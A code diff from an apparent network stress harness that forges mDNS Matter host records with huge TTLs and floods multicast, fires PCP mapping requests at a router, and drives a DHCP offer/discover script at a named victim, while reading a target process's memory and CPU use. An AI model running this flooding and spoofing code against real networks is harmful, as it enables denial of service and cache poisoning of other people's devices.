@@ -133,7 +133,7 @@ function soapLoop() {
 // 2. mDNS: packets of made-up commissionable Matter hosts (PTR, SRV, TXT, AAAA), TTL 0x7fffffff, new host names every packet.
 function name(labels) { return Buffer.concat([...labels.map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)])), Buffer.from([0])]); }
 function rr(nameBytes, type, rdata) {
-  const h = Buffer.alloc(10); h.writeUInt16BE(type, 0); h.writeUInt16BE(type === 12 ? 1 : 0x8001, 2); // PTR is shared (no cache-flush bit) h.writeUInt32BE(0x7fffffff, 4); h.writeUInt16BE(rdata.length, 8);
+  const h = Buffer.alloc(10); h.writeUInt16BE(type, 0); h.writeUInt16BE(type === 12 ? 1 : 0x8001, 2); /* PTR is shared: no cache-flush bit */ h.writeUInt32BE(0x7fffffff, 4); h.writeUInt16BE(rdata.length, 8);
   return Buffer.concat([nameBytes, h, rdata]);
 }
 let hostSeq = 0;
@@ -181,13 +181,13 @@ function pcpMap(i) {
   pcp.on('error', () => undefined);
   await new Promise((r) => pcp.bind(0, r));
   const timers = [];
-  timers.push(setInterval(() => {
+  if (t.mdnsPacketsPerSecond > 0) timers.push(setInterval(() => {
     const packet = mdnsPacket();
     counts.mdnsPackets++; counts.mdnsBytes += packet.length;
     if (counts.mdnsPackets % 2) v4.send(packet, 5353, '224.0.0.251'); else v6.send(packet, 5353, 'ff02::fb%' + t.interfaceName);
   }, 1000 / t.mdnsPacketsPerSecond));
   let pcpSeq = 0;
-  timers.push(setInterval(() => { for (let k = 0; k < t.pcpPerTick; k++) { counts.pcpSent++; pcp.send(pcpMap(pcpSeq++), t.pcpPort, t.routerIpv4); } }, 10));
+  if (t.pcpPerTick > 0) timers.push(setInterval(() => { for (let k = 0; k < t.pcpPerTick; k++) { counts.pcpSent++; pcp.send(pcpMap(pcpSeq++), t.pcpPort, t.routerIpv4); } }, 10));
   const dhcp = spawn('python3', ['-c', t.dhcpScript, t.victimMac, t.routerIpv4, t.victimIpv4, String(t.holdMs / 1000), String(t.dhcpOffersPerSecond), String(t.dhcpDiscoversPerSecond), t.interfaceName], { stdio: ['ignore', 'pipe', 'inherit'] });
   let dhcpOut = '';
   dhcp.stdout.on('data', (d) => (dhcpOut += d));
@@ -378,4 +378,15 @@ export async function residentKb(pid: number): Promise<number> {
   const kb = /VmRSS:\s+(\d+) kB/.exec(status)?.[1];
   if (kb === undefined) throw new Error(`no VmRSS for pid ${pid}`);
   return Number(kb);
+}
+
+/** CPU time (ms, user + system) a process has used, from /proc (clock ticks of 10 ms, as on Linux). */
+export async function cpuMs(pid: number): Promise<number> {
+  const stat = await readFile(`/proc/${pid}/stat`, 'utf8');
+  // Fields after the command name (which may contain spaces) start at ') '.
+  const fields = stat.slice(stat.lastIndexOf(')') + 2).split(' ');
+  const utime = Number(fields[11]);
+  const stime = Number(fields[12]);
+  if (!Number.isFinite(utime) || !Number.isFinite(stime)) throw new Error(`no CPU times for pid ${pid}`);
+  return (utime + stime) * 10;
 }
